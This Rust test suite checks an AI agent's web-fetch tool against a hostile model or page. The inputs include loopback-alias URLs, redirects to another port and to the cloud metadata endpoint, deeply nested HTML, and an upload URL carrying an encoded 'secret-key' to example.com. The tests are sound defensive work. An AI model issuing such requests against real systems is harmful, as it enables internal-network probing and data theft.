//! `webfetch` pointed inward by a hostile model or page, run headless through the real binary:
//! loopback and its aliases, a redirect to another port or to the cloud metadata address,
//! nesting deep enough to overflow a recursive converter, scripts and data blobs in the page,
//! and the question that must show the whole URL. Only 127.0.0.1 is ever connected to.

use std::sync::{Arc, Mutex};

use crate::support;

use serde_json::json;
use support::MockServer;
use support::openai;
use support::pith::{PithEnv, last_tool_result, stderr};

/// The model makes one tool call, then answers "done". Returns the tool result the model saw.
async fn call(env: &PithEnv, server: &MockServer, url: &str, yes: bool) -> String {
    let args = json!({ "url": url }).to_string();
    server.push(openai::tool_calls(&[("call_1", "webfetch", &args)], None));
    server.push(openai::text("done", None));
    let args: &[&str] = if yes {
        &["run", "--yes", "go"]
    } else {
        &["run", "go"]
    };
    let out = env.run(args).await;
    assert!(!stderr(&out).contains("panicked"), "{}", stderr(&out));
    assert!(!stderr(&out).contains("overflow"), "{}", stderr(&out));
    last_tool_result(server)
}

/// The paths a listener on 127.0.0.1 was asked for, and its port.
struct Site {
    port: u16,
    hits: Arc<Mutex<Vec<String>>>,
}

impl Site {
    fn url(&self, path: &str) -> String {
        format!("http://127.0.0.1:{}{path}", self.port)
    }
    fn hits(&self) -> Vec<String> {
        self.hits.lock().unwrap().clone()
    }
}

const PAGE: &str = r#"<html><head><title>Notes</title>
<style>.secret-style { color: red }</style>
<script>var secretScript = "token";</script>
<script id="__NEXT_DATA__" type="application/json">{"props":{"secretBlob":"x"}}</script>
</head><body>
<header><a href="/">SiteBanner</a></header>
<nav><ul><li>NavMenuItem</li></ul></nav>
<noscript>EnableJavaScriptPlease</noscript>
<template><p>TemplateText</p></template>
<svg><text>SvgText</text></svg>
<main><article><h1>Release notes</h1><p>Version <b>2.0</b> drops the old API.</p></article></main>
<aside>SidebarAd</aside>
<footer>CopyrightFooter</footer>
</body></html>"#;

/// A web site on 127.0.0.1: a page full of boilerplate, pages of `n` nested `<div>`s, and a
/// redirect to `/to` (another port, the metadata address).
async fn site(other: Option<u16>) -> Site {
    use axum::extract::Path;
    use axum::http::{StatusCode, header};
    use axum::response::IntoResponse;
    let hits = Arc::new(Mutex::new(Vec::new()));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    const HTML: [(axum::http::HeaderName, &str); 1] =
        [(header::CONTENT_TYPE, "text/html; charset=utf-8")];
    let log = hits.clone();
    let app = axum::Router::new()
        .route(
            "/page",
            axum::routing::get(move || async move { (HTML, PAGE) }),
        )
        .route(
            "/deep/{n}",
            axum::routing::get(move |Path(n): Path<usize>| async move {
                let body = format!(
                    "<html><body>{}deepest words{}</body></html>",
                    "<div>".repeat(n),
                    "</div>".repeat(n)
                );
                (HTML, body)
            }),
        )
        .route(
            "/hop/{to}",
            axum::routing::get(move |Path(to): Path<String>| async move {
                let to = match to.as_str() {
                    "metadata" => "http://169.254.169.254/latest/meta-data/".to_string(),
                    _ => format!("http://127.0.0.1:{}/secret", other.unwrap_or(1)),
                };
                (StatusCode::FOUND, [(header::LOCATION, to)]).into_response()
            }),
        )
        .route(
            "/secret",
            axum::routing::get(|| async { "internal admin page" }),
        )
        .layer(axum::middleware::from_fn(
            move |req: axum::extract::Request, next: axum::middleware::Next| {
                let log = log.clone();
                async move {
                    log.lock().unwrap().push(req.uri().to_string());
                    next.run(req).await
                }
            },
        ));
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    Site { port, hits }
}

fn with_rules(server: &MockServer, rules: &str) -> PithEnv {
    PithEnv::new(
        &server.url(),
        128_000,
        16_000,
        &format!("[webfetch]\nenabled = true\ntimeout_secs = 5\n[permission.webfetch]\n{rules}"),
    )
}

/// Loopback is refused after resolution unless a rule names its host and port: not by `*`,
/// not by a rule for the host alone (that is the default port), not under `--yes`.
#[tokio::test]
async fn webfetch_refuses_loopback_without_a_host_port_rule() {
    let s = site(None).await;
    let server = MockServer::start().await;
    for rules in ["\"*\" = \"allow\"\n", "\"127.0.0.1\" = \"allow\"\n"] {
        let env = with_rules(&server, rules);
        let out = call(&env, &server, &s.url("/page"), true).await;
        assert!(out.contains("loopback"), "{rules}: {out}");
        assert!(!out.contains("Release notes"), "{rules}: {out}");
    }
    // nor by the name `localhost` (names resolved to an inward address: guard unit tests)
    let star = with_rules(&server, "\"*\" = \"allow\"\n");
    let out = call(
        &star,
        &server,
        &format!("http://localhost:{}/page", s.port),
        true,
    )
    .await;
    assert!(
        out.contains("is 127.0.0.1") || out.contains("is ::1"),
        "{out}"
    );
    assert!(s.hits().is_empty(), "{:?}", s.hits());
    // named with its port, it is read
    let env = with_rules(&server, &format!("\"127.0.0.1:{}\" = \"allow\"\n", s.port));
    let out = call(&env, &server, &s.url("/page"), false).await;
    assert!(out.contains("Release notes"), "{out}");
}

/// Other spellings of this machine do not get past a deny rule for `localhost`, whatever the
/// port, and are refused before anything is connected to.
#[tokio::test]
async fn webfetch_aliases_of_localhost_obey_its_deny() {
    let s = site(None).await;
    let server = MockServer::start().await;
    let env = with_rules(&server, "\"*\" = \"allow\"\n\"localhost\" = \"deny\"\n");
    let p = s.port;
    for url in [
        format!("http://localhost:{p}/page"),
        format!("http://127.0.0.2:{p}/page"),
        format!("http://[::1]:{p}/page"),
        format!("http://0.0.0.0:{p}/page"),
        format!("http://[::ffff:127.0.0.1]:{p}/page"),
        format!("http://[::ffff:7f00:1]:{p}/page"),
        format!("http://2130706433:{p}/page"),
        "http://LOCALHOST./page".to_string(),
    ] {
        let out = call(&env, &server, &url, true).await;
        assert!(out.contains("Permission denied"), "{url}: {out}");
    }
    assert!(s.hits().is_empty(), "{:?}", s.hits());
}

/// A redirect from the allowed host:port to another port of the same host is a new subject:
/// not followed without a rule for it (the model is told, and its own call would ask), and
/// followed with one.
#[tokio::test]
async fn webfetch_redirect_to_another_port_is_not_followed() {
    let inner = site(None).await;
    let outer = site(Some(inner.port)).await;
    let server = MockServer::start().await;
    let env = with_rules(
        &server,
        &format!("\"127.0.0.1:{}\" = \"allow\"\n", outer.port),
    );
    let out = call(&env, &server, &outer.url("/hop/port"), false).await;
    assert!(out.contains(&format!("127.0.0.1:{}", inner.port)), "{out}");
    assert!(!out.contains("internal admin page"), "{out}");
    assert!(inner.hits().is_empty(), "{:?}", inner.hits());
    assert_eq!(outer.hits(), vec!["/hop/port".to_string()]);
    // where the rules allow (and name) the other port, it is followed
    let both = with_rules(
        &server,
        &format!(
            "\"127.0.0.1:{}\" = \"allow\"\n\"127.0.0.1:{}\" = \"allow\"\n",
            outer.port, inner.port
        ),
    );
    let out = call(&both, &server, &outer.url("/hop/port"), false).await;
    assert!(out.contains("internal admin page"), "{out}");
    assert_eq!(inner.hits(), vec!["/secret".to_string()]);
}

/// The cloud metadata address is refused, asked for directly or reached by a redirect that
/// the rules allow, and never connected to.
#[tokio::test]
async fn webfetch_refuses_the_metadata_address() {
    let s = site(None).await;
    let server = MockServer::start().await;
    let env = with_rules(
        &server,
        &format!("\"*\" = \"allow\"\n\"127.0.0.1:{}\" = \"allow\"\n", s.port),
    );
    let out = call(&env, &server, &s.url("/hop/metadata"), true).await;
    assert!(out.contains("link-local"), "{out}");
    let out = call(
        &env,
        &server,
        "http://169.254.169.254/latest/meta-data/",
        true,
    )
    .await;
    assert!(out.contains("link-local"), "{out}");
}

/// Deep nesting neither crashes pith nor keeps it busy: the words inside come out, bounded.
#[tokio::test]
async fn webfetch_converts_deeply_nested_pages() {
    let s = site(None).await;
    let server = MockServer::start().await;
    let env = with_rules(&server, &format!("\"127.0.0.1:{}\" = \"allow\"\n", s.port));
    for n in [20_000, 200_000] {
        let out = call(&env, &server, &s.url(&format!("/deep/{n}")), true).await;
        assert!(out.contains("deepest words"), "{n}: {out}");
        assert!(out.len() < 64 * 1024, "{n}: {} bytes", out.len());
    }
}

/// What comes back is the page's content: no script, style, data blob, navigation or banner.
#[tokio::test]
async fn webfetch_returns_the_page_not_its_scripts() {
    let s = site(None).await;
    let server = MockServer::start().await;
    let env = with_rules(&server, &format!("\"127.0.0.1:{}\" = \"allow\"\n", s.port));
    let out = call(&env, &server, &s.url("/page"), false).await;
    assert!(out.contains("# Release notes"), "{out}");
    assert!(out.contains("**2.0**"), "{out}");
    for dropped in [
        "secret-style",
        "secretScript",
        "secretBlob",
        "SiteBanner",
        "NavMenuItem",
        "EnableJavaScriptPlease",
        "TemplateText",
        "SvgText",
        "SidebarAd",
        "CopyrightFooter",
    ] {
        assert!(!out.contains(dropped), "{dropped}: {out}");
    }
}

/// The question (here: headless, where no one can answer) names the whole URL, path and query
/// included, not only the host.
#[tokio::test]
async fn webfetch_question_names_the_whole_url() {
    let server = MockServer::start().await;
    let env = with_rules(&server, "");
    let url = "https://example.com/upload?data=c2VjcmV0LWtleQ";
    let out = call(&env, &server, url, false).await;
    assert!(out.contains("Permission needed"), "{out}");
    assert!(out.contains(url), "{out}");
}
